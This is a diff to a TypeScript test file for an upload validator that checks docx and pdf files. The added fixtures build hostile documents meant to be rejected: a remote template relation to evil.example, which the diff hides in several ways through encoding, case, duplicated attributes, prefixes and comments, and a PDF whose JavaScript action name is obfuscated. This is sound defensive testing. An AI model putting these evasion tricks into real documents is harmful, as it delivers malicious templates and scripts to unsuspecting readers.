@@ -25,17 +25,27 @@ async function twoContents(): Promise<Buffer> {
   const bytes = await docxOf(wordMain, { "[Content_Types].xmX": "<Types/>" })
   return Buffer.from(bytes.toString("latin1").replaceAll(".xmX", ".xml"), "latin1")
 }
+/** One relation to a template elsewhere, written as no program does. */
+const docxWith = (before: string, mode = "External", prefix = "", inside = "") => {
+  const type = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+  const relation = `<${prefix}Relationship ${before}Type="${type}" Target="https://evil.example/t.dotm" TargetMode="${mode}"/>`
+  const rels = `<${prefix}Relationships xmlns:a-b="http://schemas.openxmlformats.org/package/2006/relationships">${inside}${relation}</${prefix}Relationships>`
+  return docxOf(wordMain, { "word/_rels/settings.xml.rels": rels })
+}
 const sheetMain = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
 
 const related = (type: string, target: string) =>
   `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`
 
-it("takes a docx whose links a reader may click", async () => {
-  const links = related("hyperlink", "https://aurel.example")
-  expect(
-    await documentType("a.docx", await docxOf(wordMain, { "word/_rels/document.xml.rels": links })),
-  ).toBe(docx)
-})
+it.each(["https://aurel.example", "https://aurel.example/?a=1&amp;b=%3E", "mailto:a@aurel.example"])(
+  "takes a docx with the link %s, which a reader may click",
+  async (target) => {
+    const links = related("hyperlink", target)
+    expect(
+      await documentType("a.docx", await docxOf(wordMain, { "word/_rels/document.xml.rels": links })),
+    ).toBe(docx)
+  },
+)
 
 it.each([
   ["without an ending", "pdf", async () => pdf],
@@ -70,6 +80,13 @@ it.each([
     () =>
       docxOf(wordMain, { "word/_rels/document.xml.rels": related("hyperlink", "file://evil/share/a.exe") }),
   ],
+  ["with a relation behind a > in an attribute", "a.docx", () => docxWith('Id="a>b" ')],
+  ["with a mode by numbers", "a.docx", () => docxWith("", "&#69;xternal")],
+  ["with a mode that is written otherwise", "a.docx", () => docxWith("", "external")],
+  ["with the mode twice", "a.docx", () => docxWith('TargetMode="Internal" ')],
+  ["with an unusual prefix", "a.docx", () => docxWith("", "External", "a-b:")],
+  ["with relations that are commented", "a.docx", () => docxWith("", "Internal", "", "<!-- > -->")],
+  ["that calls what lies elsewhere internal", "a.docx", () => docxWith("", "Internal")],
   ["with an embedded file", "a.docx", () => docxOf(wordMain, { "word/embeddings/oleObject1.xlsx": "x" })],
   ["with a control", "a.docx", () => docxOf(wordMain, { "word/activeX/activeX1.xml": "<x/>" })],
   [
@@ -81,6 +98,11 @@ it.each([
     "that acts when it is opened",
     "a.pdf",
     async () => Buffer.from("%PDF-1.7\n1 0 obj <</S /JavaScript /JS (x)>>"),
+  ],
+  [
+    "that acts under a name by numbers",
+    "a.pdf",
+    async () => Buffer.from("%PDF-1.7\n1 0 obj <</S /J#61vaScript /JS (x)>>"),
   ],
   [
     "of old with macros",
